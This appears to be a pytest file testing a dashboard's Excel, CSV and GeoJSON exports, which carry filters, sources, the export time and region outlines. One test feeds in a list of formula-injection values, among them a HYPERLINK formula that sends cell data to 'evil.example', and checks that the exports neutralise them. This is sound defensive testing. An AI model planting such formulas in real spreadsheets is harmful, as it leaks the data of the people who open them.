"""Exports an analyst can hand on: the filters, the sources and the time travel with the facts."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.analysis import filters
from dashboard.exports import plain, tables
from dashboard.schema import COLUMNS, LABELS
from dashboard.store.shipped import region_members

WHEN = datetime(2026, 11, 25, 21, 30, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "bell\x07 and nul\x00 inside",
]


@pytest.fixture
def table(seed_facts) -> pd.DataFrame:
    return tables.frame(seed_facts)


@pytest.fixture
def chosen_rows():
    chosen = filters.Filters(countries=("EE",), statuses=("existing",))
    return filters.describe(chosen, country_name={"EE": "Estonia"}.get)


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_filters_are_described_in_words_every_one_listed(chosen_rows):
    assert chosen_rows[0] == ("Country", "Estonia (EE)")
    assert ("Status", "existing") in chosen_rows and ("Unit", "all") in chosen_rows
    assert ("Reported from", "any date") in chosen_rows


def test_the_workbook_holds_facts_filters_sources_and_the_export_time(table, chosen_rows):
    book = workbook(tables.to_excel(table, filters_applied=chosen_rows, exported_at=WHEN))
    assert book.sheetnames == ["Facts", "Filters", "Sources", "Columns"]
    assert all(sheet.freeze_panes == "A2" for sheet in book.worksheets)
    facts = list(book["Facts"].values)
    assert list(facts[0]) == list(COLUMNS) and len(facts) == len(table) + 1
    first = dict(zip(facts[0], facts[1]))
    assert first["fact_id"] == table["fact_id"].iloc[0] and first["approx"] in (True, False)
    troops = [dict(zip(facts[0], row))["troops_low"] for row in facts[1:]]
    assert troops == [None if pd.isna(v) else int(v) for v in table["troops_low"]]  # numbers stay numbers
    applied = dict(list(book["Filters"].values)[1:])
    assert applied["Country"] == "Estonia (EE)" and applied["Status"] == "existing"
    assert applied["Exported at"] == "2026-11-25T21:30:00+00:00" and applied["Facts exported"] == len(table)
    sources = list(book["Sources"].values)
    assert sources[0][:5] == ("Title", "Outlet", "Author", "Published", "Address")
    assert [row[5] for row in sources[1:]] == list(dict.fromkeys(table["article_id"]))
    assert sum(row[6] for row in sources[1:]) == len(table)


def test_readable_headers_are_the_apps_names_and_both_are_listed(table, chosen_rows):
    book = workbook(tables.to_excel(table, filters_applied=chosen_rows, exported_at=WHEN, headers="readable"))
    header = next(book["Facts"].values)
    assert list(header) == [LABELS[c] for c in COLUMNS] and "Count (low)" in header
    assert ("quantity_low", "Count (low)") in list(book["Columns"].values)
    csv_header = tables.to_csv(table, headers="readable").splitlines()[0]
    assert csv_header.startswith("Fact ID,Article ID,Title") and "Count (low)" in csv_header


def test_no_cell_of_the_workbook_can_run_as_a_formula(table):
    hostile = table.head(len(HOSTILE)).copy()
    hostile["quote"] = HOSTILE[: len(hostile)]
    hostile["title"] = HOSTILE[0]
    rows = [("Article", HOSTILE[0])]
    book = workbook(tables.to_excel(hostile, filters_applied=rows, exported_at=WHEN))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(plain._FORMULA_START), cell.value
    quotes = [dict(zip(COLUMNS, r))["quote"] for r in list(book["Facts"].values)[1:]]
    assert quotes[0] == "'" + HOSTILE[0]
    assert "\x00" not in "".join(quotes) and "\x07" not in "".join(quotes)


def test_geojson_carries_filters_sources_and_time_and_regions_as_member_outlines(table, gaz, chosen_rows):
    members = region_members(table, gaz)
    collection = json.loads(
        tables.to_geojson(table, members=members, outline=gaz.outline, filters_applied=chosen_rows, exported_at=WHEN)
    )
    assert collection["filters"]["Country"] == "Estonia (EE)"
    assert collection["exported_at"] == "2026-11-25T21:30:00+00:00"
    assert [s["article_id"] for s in collection["sources"]] == list(dict.fromkeys(table["article_id"]))
    assert {"title", "outlet", "published", "url"} <= set(collection["sources"][0])
    for feature in collection["features"]:
        props = feature["properties"]
        if props["precision"] == "region":
            assert props["members"] == list(members[props["region"]])
            assert feature["geometry"]["type"] == "MultiPolygon"  # never the region's point
        elif props["lat"] is not None:
            assert feature["geometry"]["type"] == "Point"
        else:
            assert feature["geometry"] is None
    assert collection["sources"][0]["facts"] == int((table["article_id"] == table["article_id"][0]).sum())
    # Without outlines a region fact still says who its members are, and is no point.
    bare = json.loads(tables.to_geojson(table, members=members))
    region = next(f for f in bare["features"] if f["properties"]["precision"] == "region")
    assert region["geometry"] is None and region["properties"]["members"]


@pytest.mark.parametrize("size", [1, 5, 1000])
def test_geojson_written_a_chunk_at_a_time_is_the_geojson_of_the_whole_table(table, gaz, chosen_rows, size):
    members = region_members(table, gaz)
    options = {"members": members, "outline": gaz.outline, "filters_applied": chosen_rows, "exported_at": WHEN}
    chunks = [table.iloc[i : i + size] for i in range(0, len(table), size)]
    assert "".join(tables.geojson_chunks(chunks, **options)) == tables.to_geojson(table, **options)
    empty = json.loads("".join(tables.geojson_chunks([], **options)))
    assert (empty["features"], empty["sources"], empty["filters"]["Country"]) == ([], [], "Estonia (EE)")
